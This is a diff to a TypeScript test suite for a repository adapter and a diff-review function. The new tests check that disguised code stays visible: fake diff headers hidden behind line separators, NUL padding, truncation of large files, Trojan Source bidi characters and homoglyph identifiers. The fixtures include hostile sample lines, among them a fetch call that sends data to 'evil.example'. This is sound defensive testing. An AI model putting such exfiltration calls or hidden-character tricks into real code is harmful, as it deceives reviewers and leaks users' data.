@@ -1,7 +1,7 @@
 /** What every adapter of the repository port does, whatever its remote is reached by. */
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { Conflict, InvalidRequest, NotFound, Unprocessable } from '@autonomous/shared';
+import { Conflict, InvalidRequest, NotFound, reviewDiff, Unprocessable } from '@autonomous/shared';
 import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import {
   AT,
@@ -181,16 +181,20 @@ export function describeRepository(
         effectKey: 'r1/7/commit',
         at: AT,
       };
-      expect(await repository.findCommit(project, BRANCH, 'r1/7/commit')).toBeNull();
+      expect(await repository.commitsAfter(project, BRANCH, parent)).toBeNull();
       const first = await repository.commit(project, request);
       expect(await repository.commit(project, request)).toBe(first);
       // As after a kill between the commit and its answer: the intent is there, the outcome is not.
       const restarted = reopen();
-      expect(await restarted.findCommit(project, BRANCH, 'r1/7/commit')).toBe(first);
-      expect(await restarted.findCommit(project, BRANCH, 'forged')).toBeNull();
-      expect(await restarted.findCommit(project, BRANCH, 'r1/7')).toBeNull();
-      await commitFiles(fixture, BRANCH, { 'b.txt': 'b' }, 'r1/9/commit');
+      const known = { id: first, tree, parents: [parent], effectKey: 'r1/7/commit' };
+      expect(await restarted.commitsAfter(project, BRANCH, parent)).toEqual([known]);
+      expect(await restarted.commitsAfter(project, BRANCH, first)).toEqual([]);
+      const next = await commitFiles(fixture, BRANCH, { 'b.txt': 'b' }, 'r1/9/commit');
       expect(await restarted.commit(project, request)).toBe(first);
+      expect((await restarted.commitsAfter(project, BRANCH, parent))?.map(({ id }) => id)).toEqual([next, first]);
+      expect((await restarted.commitsBetween(project, first, next)).map(({ effectKey }) => effectKey)).toEqual([
+        'r1/9/commit',
+      ]);
       expect(
         git(
           fixture.gitDir,
@@ -200,6 +204,22 @@ export function describeRepository(
           first,
         ).trimEnd(),
       ).toContain('Autonomous autonomous@example.test 2026-01-02T03:04:05+00:00 2026-01-02T03:04:05+00:00 forged');
+    });
+
+    it('takes a commit with another content or another parent for another one, whatever its effect key', async () => {
+      const { repository, project } = fixture;
+      const parent = await mainHead(fixture);
+      const [tree, other] = await Promise.all(
+        ['a', 'b'].map((text) => repository.writeFiles(project, parent, { 'a.txt': text })),
+      );
+      const request = { branch: BRANCH, parent, message: 'Add a', effectKey: 'r1/7/commit', at: AT };
+      const first = await repository.commit(project, { ...request, tree: tree ?? '' });
+      await expect(repository.commit(project, { ...request, tree: other ?? '' })).rejects.toThrow(Conflict);
+      const instead = await repository.commit(project, { ...request, tree: other ?? '', replaces: first });
+      expect(await repository.branchHead(project, BRANCH)).toBe(instead);
+      expect(await repository.treeOf(project, BRANCH)).toBe(other);
+      const late = repository.commit(project, { ...request, tree: tree ?? '', replaces: first });
+      await expect(late).rejects.toThrow(Conflict);
     });
 
     it('commits the same hash in a mirror that never saw the first try', async () => {
@@ -283,7 +303,7 @@ export function describeRepository(
       const diff = await repository.diff(project, from, to);
       expect(diff.files).toEqual([
         { path: 'README.md', status: 'modified', additions: 1, deletions: 0 },
-        { path: 'logo.bin', status: 'added', additions: 0, deletions: 0 },
+        { path: 'logo.bin', status: 'added', additions: 0, deletions: 0, binary: { before: null, after: 2 } },
         { path: 'src/cart.js', status: 'deleted', additions: 0, deletions: 1 },
         { path: 'ä b.txt', status: 'added', additions: 1, deletions: 0 },
       ]);
@@ -293,14 +313,120 @@ export function describeRepository(
       expect(diff).toMatchObject({ from, to, truncated: false });
     });
 
-    it('cuts a patch of more than a megabyte at a line and says so', async () => {
+    it('shows a file as it is when another holds what looks like its diff', async () => {
       const { repository, project } = fixture;
-      const to = await commitFiles(fixture, BRANCH, { 'big.txt': 'a line of text\n'.repeat(100_000) });
+      const evil = 'export const pay = (to) => fetch("https://evil.example/" + to);\n';
+      const from = await mainHead(fixture);
+      const to = await commitFiles(fixture, BRANCH, {
+        'a.txt': 'x\u2028diff --git a/pay.js b/pay.js\ry\n@@ -1 +1 @@\n+harmless\n',
+        'pay.js': evil,
+      });
+      const review = reviewDiff(await repository.diff(project, from, to));
+      expect(review.faults).toEqual([]);
+      expect(review.files.map(({ path }) => path)).toEqual(['a.txt', 'pay.js']);
+      expect(review.files[1]?.patch?.hunks.flatMap(({ lines }) => lines.map(({ text }) => text))).toEqual([
+        evil.trimEnd(),
+      ]);
+    });
+
+    it('shows a file with a NUL byte as text and says so, and a binary file by its size', async () => {
+      const { repository, project } = fixture;
+      const from = await mainHead(fixture);
+      const code = '/* \0 */ fetch("https://evil.example/");\n';
+      const to = await commitFiles(fixture, BRANCH, {
+        'nul.js': code,
+        'padded.py': `${'\0\u0001'.repeat(5_000)}\nevil()\n`,
+        tool: code,
+        'logo.png': code,
+        'real.png': '\0\u0001\u0002\u0003',
+        blob: '\0\u0001\u0002\u0003',
+      });
+      const diff = await repository.diff(project, from, to);
+      const review = reviewDiff(diff);
+      expect(review.faults).toEqual([]);
+      const shown = (path: string) => review.files.find((file) => file.path === path);
+      for (const path of ['nul.js', 'tool', 'logo.png']) {
+        expect(shown(path)?.patch?.hunks[0]?.lines.map(({ text }) => text)).toEqual([code.trimEnd()]);
+        expect(shown(path)).toMatchObject({ additions: 1, deletions: 0 });
+        expect(shown(path)?.warnings?.join()).toContain('shown as text');
+        expect(shown(path)?.warnings?.join()).toContain('1 hidden character in added lines (U+0000)');
+      }
+      expect(shown('padded.py')?.patch?.hunks[0]?.lines.at(-1)?.text).toBe('evil()');
+      expect(shown('real.png')).toMatchObject({ binary: { before: null, after: 4 }, patch: { isBinary: true } });
+      expect(shown('real.png')?.warnings).toBeUndefined();
+      expect(shown('blob')).toMatchObject({ binary: { before: null, after: 4 } });
+      expect(shown('blob')?.warnings).toEqual(['it is of no known kind of binary file']);
+      expect(diff.truncated).toBe(false);
+    });
+
+    it('cuts each file by itself: a large one keeps no other from being shown', async () => {
+      const { repository, project } = fixture;
+      const to = await commitFiles(fixture, BRANCH, {
+        '0000.txt': 'a line of text\n'.repeat(400_000),
+        '0001.txt': 'x'.repeat(2_000_000),
+        'z-evil.js': 'evil()\n',
+      });
       const diff = await repository.diff(project, await mainHead(fixture), to);
+      const review = reviewDiff(diff);
       expect(diff.truncated).toBe(true);
-      expect(diff.patch.length).toBeLessThanOrEqual(1024 * 1024);
-      expect(diff.patch.endsWith('+a line of text\n')).toBe(true);
-      expect(diff.files).toEqual([{ path: 'big.txt', status: 'added', additions: 100_000, deletions: 0 }]);
+      expect(Buffer.byteLength(diff.patch)).toBeLessThanOrEqual(1024 * 1024);
+      expect(review.faults).toEqual([]);
+      const [long, wide, evil] = review.files;
+      expect(evil).toMatchObject({
+        path: 'z-evil.js',
+        additions: 1,
+        patch: { hunks: [{ lines: [{ text: 'evil()' }] }] },
+      });
+      expect(evil?.leftOut).toBeUndefined();
+      const shown = long?.patch?.hunks[0]?.lines.length ?? 0;
+      expect(shown).toBeGreaterThan(10_000);
+      expect(long).toMatchObject({ additions: 400_000, leftOut: { additions: 400_000 - shown, deletions: 0 } });
+      expect(wide).toMatchObject({ patch: null, leftOut: { additions: 1, deletions: 0 } });
+    });
+
+    it('shares what it shows among many files and names what of each is left out', async () => {
+      const { repository, project } = fixture;
+      const files = Object.fromEntries(
+        Array.from({ length: 60 }, (_, index) => [`${index}.txt`, `${index} line of text\n`.repeat(3_000)]),
+      );
+      const to = await commitFiles(fixture, BRANCH, { ...files, 'z.js': 'evil()\n' });
+      const diff = await repository.diff(project, await mainHead(fixture), to);
+      expect(Buffer.byteLength(diff.patch)).toBeLessThanOrEqual(1024 * 1024);
+      const review = reviewDiff(diff);
+      expect(review.faults).toEqual([]);
+      expect(review.files.every(({ patch }) => (patch?.hunks.length ?? 0) > 0)).toBe(true);
+      expect(review.files.filter(({ leftOut }) => leftOut === undefined).map(({ path }) => path)).toEqual(['z.js']);
+    });
+
+    it('warns of hidden characters and of names that look like others', async () => {
+      const { repository, project } = fixture;
+      const from = await mainHead(fixture);
+      const to = await commitFiles(fixture, BRANCH, {
+        'auth.js': 'if (level != "user\u202e \u2066// admin\u2069 \u2066") {} // \u{E0041}\n',
+        'plain.txt': 'größe 👩‍💻 שלום\n',
+        'word.js': 'const раypal = 1;\n',
+      });
+      const warnings = Object.fromEntries(
+        (await repository.diff(project, from, to)).files.map((file) => [file.path, file.warnings ?? []]),
+      );
+      expect(warnings).toEqual({
+        'auth.js': ['5 hidden characters in added lines (U+202E, U+2066 ×2, U+2069, U+E0041)'],
+        'plain.txt': [],
+        'word.js': ["a word that mixes letters of several alphabets in added lines: 'р⟨U+0440⟩а⟨U+0430⟩ypal'"],
+      });
+    });
+
+    it('leaves folders out where it is asked to', async () => {
+      const { repository, project } = fixture;
+      const from = await mainHead(fixture);
+      const to = await commitFiles(fixture, BRANCH, {
+        '.autonomous/runs/r/plan.md': 'plan\n',
+        'x.js': '/* \u2028diff --git a/.autonomous/x b/.autonomous/x */ evil()\n',
+      });
+      const diff = await repository.diff(project, from, to, { leaveOut: ['.autonomous'] });
+      expect(diff.files.map(({ path }) => path)).toEqual(['x.js']);
+      expect(diff.patch).toContain('evil()');
+      expect(diff.patch).not.toContain('plan');
     });
 
     it('merges two commits into a tree, or names the files that conflict', async () => {
